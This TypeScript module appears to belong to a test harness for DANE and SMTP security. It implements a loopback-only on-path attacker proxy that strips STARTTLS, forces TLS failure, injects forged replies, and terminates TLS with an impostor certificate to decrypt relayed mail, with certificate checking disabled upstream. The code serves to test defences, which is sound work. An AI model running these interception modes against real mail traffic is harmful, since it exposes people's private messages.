/**
 * An on-path attacker in front of one lab MX server (RFC 7672 §1.3: the
 * downgrade and impersonation attacks DANE must defeat, checklist C14, C16, C32).
 * A scenario's DNS points the MX host's A record at the proxy's loopback
 * address; the proxy forwards to the real server.
 *
 * Modes:
 * - `passthrough`    forwards everything untouched (control);
 * - `strip-starttls` removes STARTTLS from the EHLO reply and answers a blind
 *                    STARTTLS itself with 502;
 * - `starttls-454`   answers STARTTLS with `454 4.7.0 TLS not available`;
 * - `tls-intercept`  answers STARTTLS itself and terminates TLS with its own
 *                    certificate chain (PKIX-valid for the name: only DANE
 *                    catches it), then speaks TLS to the real server and relays
 *                    the decrypted stream;
 * - `strip-requiretls` like `tls-intercept`, and also removes REQUIRETLS from
 *                    the server's EHLO reply inside the intercepted TLS (RFC
 *                    8689: the only place an attacker can strip it is a TLS
 *                    session it terminates, which DANE refuses);
 * - `inject`         lets TLS pass end to end, but replaces the server's
 *                    STARTTLS 220 with `220 ready\r\n250 forged\r\n` in one write
 *                    (a reply the client must discard, RFC 3207 §6, C32).
 *
 * Records: connections, STARTTLS commands seen, replies injected, TLS sessions
 * terminated (with the SNI the client sent), and every message body that
 * passed the proxy readable — in plaintext, or decrypted by `tls-intercept`.
 *
 * Failure modes: an error on either side closes both; over-long lines drop the
 * connection. A DATA the server refuses leaves the observer in body mode until
 * the connection ends (only complete bodies ending in `.` are counted).
 */
import net from 'node:net';
import tls from 'node:tls';
import type { IssuedCert } from './certs.ts';
import { pemBundle } from './certs.ts';
import { assertLoopback } from './shared-port.ts';
import { LineSplitter, ReplyGrouper, SmtpObserver, encodeReply, replyCode, stripStartTls } from './smtp-lines.ts';

export const ATTACK_MODES = ['passthrough', 'strip-starttls', 'starttls-454', 'tls-intercept', 'inject', 'strip-requiretls'] as const;
export type AttackMode = (typeof ATTACK_MODES)[number];

/** Modes that terminate the client's TLS themselves and need an impostor chain. */
export function interceptsTls(mode: AttackMode): boolean {
  return mode === 'tls-intercept' || mode === 'strip-requiretls';
}

/** Removes `extension` from an EHLO reply (its last line keeps the final-line form). */
export function stripExtension(reply: string[], extension: string): string[] {
  const re = new RegExp(`^\\d{3}[- ]${extension}(\\s|$)`, 'i');
  const kept = reply.filter((l) => !re.test(l));
  if (kept.length === reply.length || kept.length === 0) return reply;
  return kept.map((l, i) => `${l.slice(0, 3)}${i === kept.length - 1 ? ' ' : '-'}${l.slice(4)}`);
}

export interface AttackerProxyOptions {
  host: string;
  /** 0 for an ephemeral port. */
  port: number;
  mode: AttackMode;
  upstream: { host: string; port: number };
  /** `tls-intercept`: the impostor chain, leaf first. */
  impostor?: IssuedCert[];
  label?: string;
}

export interface ProxyStats {
  connections: number;
  startTlsCommands: number;
  injected: number;
  intercepted: number;
  /** SNI names received by `tls-intercept`. */
  interceptSni: string[];
  /** Message bodies seen on the plaintext wire. */
  plaintextMessages: number;
  /** Message bodies decrypted by `tls-intercept`. */
  interceptedMessages: number;
}

export interface AttackerProxy {
  host: string;
  port: number;
  mode: AttackMode;
  label: string;
  stats(): ProxyStats;
  /** True when any message passed through the proxy readable. */
  sawMessageInClear(): boolean;
  reset(): void;
  close(): Promise<void>;
}

export const INJECTED_REPLY = '220 ready\r\n250 forged\r\n';

function emptyStats(): ProxyStats {
  return { connections: 0, startTlsCommands: 0, injected: 0, intercepted: 0, interceptSni: [], plaintextMessages: 0, interceptedMessages: 0 };
}

type Phase = 'plain' | 'await-starttls-reply' | 'await-upstream-tls' | 'raw' | 'intercept';

/** One proxied connection: a small state machine over the plaintext SMTP dialogue. */
class ProxySession {
  private phase: Phase = 'plain';
  private readonly c2s = new LineSplitter();
  private readonly s2c = new LineSplitter();
  private readonly replies = new ReplyGrouper();
  private readonly observer = new SmtpObserver();
  private held: Buffer[] = [];

  constructor(
    private readonly client: net.Socket,
    private readonly upstream: net.Socket,
    private readonly opts: AttackerProxyOptions,
    private readonly stats: ProxyStats,
  ) {
    const kill = (): void => { client.destroy(); upstream.destroy(); };
    for (const s of [client, upstream]) { s.on('error', kill); s.on('close', kill); }
    client.on('data', (b: Buffer) => this.fromClient(b));
    upstream.on('data', (b: Buffer) => this.fromServer(b));
  }

  private fromClient(chunk: Buffer): void {
    if (this.phase === 'raw') { this.upstream.write(chunk); return; }
    if (this.phase === 'await-starttls-reply') { this.held.push(chunk); return; }
    const lines = this.c2s.push(chunk);
    if (!lines) { this.client.destroy(); return; }
    for (const line of lines) {
      if (this.phase !== 'plain') return; // after STARTTLS, pipelined plaintext is discarded (RFC 3207 §4.2)
      this.clientLine(line);
    }
  }

  private clientLine(line: string): void {
    const messagesBefore = this.observer.messages;
    const verb = this.observer.line(line);
    if (this.observer.messages > messagesBefore) this.stats.plaintextMessages++;
    if (verb !== 'STARTTLS') { this.upstream.write(line + '\r\n'); return; }
    this.stats.startTlsCommands++;
    switch (this.opts.mode) {
      case 'strip-starttls': this.client.write('502 5.5.1 Command not implemented\r\n'); return;
      case 'starttls-454': this.client.write('454 4.7.0 TLS not available due to local problem\r\n'); return;
      case 'tls-intercept':
      case 'strip-requiretls': this.startIntercept(); return;
      default:
        this.phase = 'await-starttls-reply';
        this.upstream.write('STARTTLS\r\n');
    }
  }

  private fromServer(chunk: Buffer): void {
    if (this.phase === 'raw') { this.client.write(chunk); return; }
    const lines = this.s2c.push(chunk);
    if (!lines) { this.client.destroy(); return; }
    for (const reply of this.replies.push(lines)) this.serverReply(reply);
  }

  private serverReply(reply: string[]): void {
    if (this.phase === 'await-upstream-tls') { this.upstreamTls(reply); return; }
    if (this.phase === 'await-starttls-reply') { this.startTlsReply(reply); return; }
    if (this.phase !== 'plain') return;
    const out = this.opts.mode === 'strip-starttls' ? stripStartTls(reply).reply : reply;
    this.client.write(encodeReply(out));
  }

  /** The real server answered our forwarded STARTTLS. */
  private startTlsReply(reply: string[]): void {
    const held = Buffer.concat(this.held);
    this.held = [];
    if (replyCode(reply) !== 220) {
      this.phase = 'plain';
      this.client.write(encodeReply(reply));
      if (held.length > 0) this.fromClient(held);
      return;
    }
    if (this.opts.mode === 'inject') {
      this.stats.injected++;
      this.client.write(INJECTED_REPLY); // one write: the forged 250 arrives with the 220 (C32)
    } else {
      this.client.write(encodeReply(reply));
    }
    this.phase = 'raw';
    const rest = this.s2c.takeRest();
    if (rest.length > 0) this.client.write(rest);
    if (held.length > 0) this.upstream.write(held);
  }

  /** `tls-intercept`: we answer 220 and terminate the client's TLS with the impostor chain. */
  private startIntercept(): void {
    const chain = this.opts.impostor;
    const leaf = chain?.[0];
    if (!chain || !leaf) { this.client.destroy(); return; }
    this.phase = 'await-upstream-tls';
    this.c2s.takeRest();
    this.client.removeAllListeners('data');
    this.client.write('220 2.0.0 Ready to start TLS\r\n');
    const ctls = new tls.TLSSocket(this.client, {
      isServer: true,
      secureContext: tls.createSecureContext({ key: leaf.keyPem, cert: pemBundle(chain) }),
    });
    ctls.on('error', () => { ctls.destroy(); this.upstream.destroy(); });
    this.clientTls = ctls;
    ctls.once('secure', () => {
      this.stats.intercepted++;
      const sni = (ctls as tls.TLSSocket & { servername?: string | false }).servername;
      if (typeof sni === 'string' && sni) this.stats.interceptSni.push(sni);
      this.upstream.write('STARTTLS\r\n');
    });
  }

  private clientTls: tls.TLSSocket | null = null;

  /** Upstream answered our own STARTTLS: open TLS to the real server and relay decrypted data. */
  private upstreamTls(reply: string[]): void {
    const ctls = this.clientTls;
    if (!ctls || replyCode(reply) !== 220) { this.client.destroy(); this.upstream.destroy(); return; }
    this.phase = 'intercept';
    this.upstream.removeAllListeners('data');
    const sni = (ctls as tls.TLSSocket & { servername?: string | false }).servername;
    const utls = tls.connect({ socket: this.upstream, rejectUnauthorized: false, servername: typeof sni === 'string' && sni ? sni : undefined });
    utls.on('error', () => { utls.destroy(); ctls.destroy(); });
    ctls.on('close', () => utls.destroy());
    utls.on('close', () => ctls.destroy());
    utls.once('secureConnect', () => {
      const lines = new LineSplitter();
      ctls.on('data', (b: Buffer) => {
        for (const l of lines.push(b) ?? []) {
          const before = this.observer.messages;
          this.observer.line(l);
          if (this.observer.messages > before) this.stats.interceptedMessages++;
        }
        utls.write(b);
      });
      if (this.opts.mode !== 'strip-requiretls') { utls.on('data', (b: Buffer) => ctls.write(b)); return; }
      const fromServer = new LineSplitter();
      const grouper = new ReplyGrouper();
      utls.on('data', (b: Buffer) => {
        for (const reply of grouper.push(fromServer.push(b) ?? [])) ctls.write(encodeReply(stripExtension(reply, 'REQUIRETLS')));
      });
    });
  }
}

export async function startAttackerProxy(opts: AttackerProxyOptions): Promise<AttackerProxy> {
  assertLoopback(opts.host);
  assertLoopback(opts.upstream.host);
  if (interceptsTls(opts.mode) && !opts.impostor?.[0]) throw new Error(`attacker proxy: ${opts.mode} needs an impostor chain`);
  const stats = emptyStats();
  const sockets = new Set<net.Socket>();
  const server = net.createServer((client) => {
    stats.connections++;
    const upstream = net.connect(opts.upstream.port, opts.upstream.host);
    for (const s of [client, upstream]) { sockets.add(s); s.on('close', () => sockets.delete(s)); }
    new ProxySession(client, upstream, opts, stats);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(opts.port, opts.host, () => { server.off('error', reject); resolve(); });
  });
  const port = (server.address() as net.AddressInfo).port;
  let closed = false;
  return {
    host: opts.host, port, mode: opts.mode, label: opts.label ?? opts.host,
    stats: () => ({ ...stats, interceptSni: [...stats.interceptSni] }),
    sawMessageInClear: () => stats.plaintextMessages + stats.interceptedMessages > 0,
    reset: () => { Object.assign(stats, emptyStats()); },
    close: () => {
      if (closed) return Promise.resolve();
      closed = true;
      for (const s of sockets) s.destroy();
      return new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
